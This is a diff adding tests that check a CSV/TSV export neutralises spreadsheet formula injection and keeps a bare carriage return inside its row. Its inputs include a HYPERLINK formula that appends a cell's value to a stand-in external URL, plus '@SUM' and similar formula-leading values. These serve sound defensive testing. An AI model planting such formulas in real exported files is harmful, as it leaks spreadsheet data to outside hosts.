@@ -201,3 +201,41 @@ def test_cli_export_and_report(tmp_path: Path, run: Run) -> None:
     code, _, err = run("report", db, "-o", tmp_path / "rep")
     assert code == 0 and "index.html" in err
     assert (tmp_path / "rep" / "index.html").is_file()
+
+
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"Click")'
+
+
+def test_csv_cells_cannot_run_as_formulas_and_a_bare_cr_stays_in_its_row(
+    store: Store, tmp_path: Path
+) -> None:
+    titles = {"article100": FORMULA, "article101": "first\rsecond", "article102": "+1",
+              "article103": "@SUM(A1)", "article104": "-2+3", "article105": "\tx"}  # fmt: skip
+    with store.writing():
+        for aid, title in titles.items():
+            store.put_result(_result(aid, TEXTS[0], title=title, outlet="Gazette"), 2)
+    out = tmp_path / "a.csv"
+    assert export(store, "csv", out) == 9
+    with out.open(encoding="utf-8", newline="") as handle:
+        read = list(csv.reader(handle))
+    assert len(read) == 10  # the header and nine articles: no row split at the bare CR
+    by_id = {row[0]: dict(zip(read[0], row, strict=True)) for row in read[1:]}
+    assert by_id["article100"]["title"] == "'" + FORMULA
+    assert by_id["article101"]["title"] == "first\rsecond"
+    assert by_id["article102"]["title"] == "'+1"
+    assert by_id["article103"]["title"] == "'@SUM(A1)"
+    assert by_id["article104"]["title"] == "'-2+3"
+    assert by_id["article105"]["title"] == "'\tx"
+    assert by_id["article106"]["title"] == "Story 6"
+    assert all(float(row["score"]) >= 0 for row in by_id.values())  # numbers stay numbers
+
+
+def test_semeval_ids_stay_one_field_and_cannot_run_as_formulas(tmp_path: Path) -> None:
+    with open_store(tmp_path / "r.db") as store:
+        with store.writing():
+            store.put_result(_result("=1+1\tx\ny", TEXTS[0]), 1)
+        out = tmp_path / "full.tsv"
+        n = export(store, "full", out)
+    lines = out.read_text(encoding="utf-8").split("\n")
+    assert n > 0 and len(lines) == n + 1 and lines[-1] == ""
+    assert all(line.split("\t")[0] == "\\x3d1+1\\tx\\ny" for line in lines[:-1])
